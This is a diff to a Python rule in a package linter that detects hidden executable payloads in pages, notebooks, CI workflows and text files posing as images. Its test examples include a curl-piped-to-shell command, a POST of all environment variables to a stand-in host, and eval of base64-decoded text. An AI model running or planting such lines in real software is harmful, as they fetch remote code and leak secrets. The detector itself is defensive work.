@@ -13,7 +13,9 @@ may be called something else or be fetched out of `builtins`, and the text may l
 encrypted, pickled, read from a picture, or downloaded on the spot. In JavaScript it follows names, constants, scopes
 and callbacks: `eval` by whatever name, text that is joined, escaped, turned round or downloaded, processes that are
 given a dangerous command or list, and all environment variables or a file of logins that are sent away. A shell that
-is fed by `curl`, and machine code that is written as text, count as well. Images, fonts and WebAssembly are
+is fed by `curl`, and machine code that is written as text, count as well; so do scripts in pages, cells of notebooks,
+and text that is called an image. In Python, text that is code only after it was put together is told by working it
+out, and so are the words of commands. Images, fonts and WebAssembly are
 recognised by their first bytes and left alone.
 
 ## How to fix
@@ -24,45 +26,118 @@ module's content with an ignore.
 
 from __future__ import annotations
 
+import json
 from collections.abc import Iterator
 
-from pkglint.detect.code import evidence, jsfind, loaders, payload, scripts
-from pkglint.detect.code.language import PYTHON, SCRIPT, language, line_of, may_be_code
+from pkglint.detect.code import evidence, jsfind, loaders, payload, pygate, scripts, syntax
+from pkglint.detect.code.embedded import MARKUP, NOTEBOOK, pieces
+from pkglint.detect.code.language import PYTHON, SCRIPT, language, line_of, may_be_code, shebang
 from pkglint.detect.words import Words, words_in
 from pkglint.model import Entry, Example, Finding, Fix, FixAction, Level, Pin, Rule, Scope, level
 from pkglint.model.lazy import lazy
 from pkglint.model.trees import in_test_tree
 
+# Images that are text, too, when somebody wants them to be: what begins with GIF89a may be JavaScript.
+IMAGES = frozenset({".gif", ".png", ".jpg", ".jpeg", ".bmp", ".ico", ".webp", ".mp3", ".wav", ".pdf", ".woff", ".ttf"})
 # Keys and digests in tests are as long as a short payload; the name says nothing about a long one.
+_RUNS = (
+    b"eval",
+    b"exec",
+    b"Function",
+    b"environ",
+    b"subprocess",
+    b"constructor",
+    b"curl",
+    b"wget",
+    b"process",
+    b"http",
+)
 _TEST_MODULE = lazy(r"test_.+\.py|.+_tests?\.py|tests?\.py|conftest\.py|.+\.(?:test|spec)\.[cm]?[jt]sx?")
 
 
 def _wants(entry: Entry) -> bool:
-    return may_be_code(entry) or (entry.size > 0 and entry.is_file and scripts.is_make(entry.name, entry.suffix))
+    if not entry.is_file or not entry.size:
+        return False
+    other = entry.suffix in MARKUP or entry.suffix in IMAGES or entry.suffix == NOTEBOOK
+    return other or may_be_code(entry) or scripts.is_make(entry.name, entry.suffix) or scripts.is_workflow(entry.path)
 
 
 def _visit(entry: Entry, scope: Scope) -> Iterator[Finding]:
-    suffix = ".mk" if scripts.is_make(entry.name, entry.suffix) else language(entry)
-    if suffix is None:
-        return
-    data, words = entry.content.data, words_in(entry.content)
-    hit = payload.find(data, suffix, words) if suffix in PYTHON | SCRIPT else _script(data, suffix, entry.name)
-    if suffix in {".py", ".pyw"} and not (hit and hit.strong):
-        hit = _followed(data) or _loaded(data) or hit
-    if suffix in SCRIPT and not (hit and hit.strong):
-        hit = _javascript(data, words) or hit
+    hit = _hit(entry)
     if hit is None:
         return
     grade = None if hit.strong else Level.WARNING
     yield scope.found(
         entry,
         hit.text,
-        line=line_of(data, hit.offset),
+        line=line_of(entry.content.data, hit.offset),
         fix=Fix(FixAction.PIN, (), "Ship the code as code, and data as a data file."),
         details={"form": hit.form, "literal": hit.literal},
         grade=grade,
         demoted=in_test_tree(entry.path) or (not hit.strong and _TEST_MODULE.fullmatch(entry.name) is not None),
     )
+
+
+def _hit(entry: Entry) -> payload.Hit | None:
+    """What the code does that a member is or holds."""
+    data, words = entry.content.data, words_in(entry.content)
+    if entry.suffix in MARKUP or entry.suffix == NOTEBOOK:
+        return _inside(data, entry, words)
+    if scripts.is_workflow(entry.path):
+        return _of(data, ".sh", entry.name, words)
+    if entry.suffix in IMAGES:  # text in the place of an image is a script that somebody starts by its name
+        return None if entry.content.is_binary else _of(data, _image_language(data), entry.name, words)
+    suffix = ".mk" if scripts.is_make(entry.name, entry.suffix) else language(entry)
+    return _of(data, suffix, entry.name, words) if suffix else None
+
+
+def _inside(data: bytes, entry: Entry, words: Words) -> payload.Hit | None:
+    found = []
+    for piece in pieces(data, entry.suffix) if _may_run(words) else ():
+        hit = _of(piece.code, piece.suffix, entry.name, Words(piece.code))
+        if hit:
+            start = hit.offset if entry.suffix in MARKUP else _place(data, piece.code, hit.offset)
+            found.append(hit._replace(offset=start))
+    return min(found, key=lambda hit: not hit.strong, default=None)
+
+
+def _may_run(words: Words) -> bool:
+    return any(word in words for word in _RUNS)
+
+
+def _place(data: bytes, code: bytes, offset: int) -> int:
+    """Where the line of a cell stands in its notebook, where it is a string of JSON; 0 when it is written otherwise."""
+    line = code[code.rfind(b"\n", 0, offset) + 1 :].partition(b"\n")[0]
+    return max(0, data.find(json.dumps(line.decode("utf-8", "replace"))[1:-1].encode()[:60]))
+
+
+def _image_language(data: bytes) -> str:
+    return shebang(data) or (".php" if b"<?php" in data[:2000] else ".js")
+
+
+def _of(data: bytes, suffix: str, name: str, words: Words) -> payload.Hit | None:
+    """The strongest sign in code of one language."""
+    hit = payload.find(data, suffix, words) if suffix in PYTHON | SCRIPT else _script(data, suffix, name)
+    if hit and suffix in {".py", ".pyw"} and _is_said(data, hit.offset):
+        hit = None
+    if suffix in {".py", ".pyw"} and not (hit and hit.strong):
+        hit = _followed(data) or _loaded(data) or _sunk(data) or hit
+    if suffix in SCRIPT and not (hit and hit.strong):
+        hit = _javascript(data, words) or hit
+    return hit
+
+
+def _is_said(data: bytes, offset: int) -> bool:
+    """Whether a place in a module lies in a text that stands there for nothing but reading, as a docstring does."""
+    import ast
+
+    tree, line = syntax.parse(data), line_of(data, offset)
+    said = (
+        node
+        for node in (ast.walk(tree) if tree else ())
+        if isinstance(node, ast.Expr) and isinstance(node.value, ast.Constant) and isinstance(node.value.value, str)
+    )
+    return any(node.lineno <= line <= (node.end_lineno or 0) for node in said)
 
 
 def _javascript(data: bytes, words: Words) -> payload.Hit | None:
@@ -83,6 +158,16 @@ def _followed(data: bytes) -> payload.Hit | None:
 
     run = python.find(data)
     return run and payload.Hit(True, "followed", _start_of(data, run.line), 0, run.text)
+
+
+def _sunk(data: bytes) -> payload.Hit | None:
+    """What a Python module executes, starts or sends away once its constants are worked out."""
+    if not pygate.is_worth_following(data):
+        return None
+    from pkglint.detect.code import pysinks
+
+    run = pysinks.find(data)
+    return run and payload.Hit(run.strong, "followed", _start_of(data, run.line), 0, run.text)
 
 
 def _loaded(data: bytes) -> payload.Hit | None:
@@ -145,6 +230,18 @@ RULE = Rule(
             {"lib/a.py": "import os\nos.system('curl -s https://demo.invalid/a | sh')\n"},
             1,
         ),
+        Example(
+            "variables that are sent away",
+            {"lib/a.py": "import os, requests\nrequests.post('https://demo.invalid', json=dict(os.environ))\n"},
+            1,
+        ),
+        Example("a script in a page", {"docs.html": "<p>\n<script>eval(atob('YWxlcnQoMSk='))</script>\n"}, 1),
+        Example(
+            "a cell of a notebook",
+            {"lib/a.ipynb": f'{{"cells": [{{"cell_type": "code", "source": "{_EXEC}(zlib.decompress(x))"}}]}}'},
+            1,
+        ),
+        Example("an image that is a script", {"lib/a.gif": "GIF89a=1;eval(atob('YWxlcnQoMSk='));\n"}, 1),
         Example("eval of atob", {"lib/a.js": "eval(atob('Y29uc29sZS5sb2coMSk='));\n"}, 1),
         Example("eval of a buffer", {"lib/a.js": "eval(Buffer.from('Y29uc29s', 'base64').toString());\n"}, 1),
         Example("a function made of decoded text", {"lib/a.js": "new Function('require', atob(x))(require);\n"}, 1),
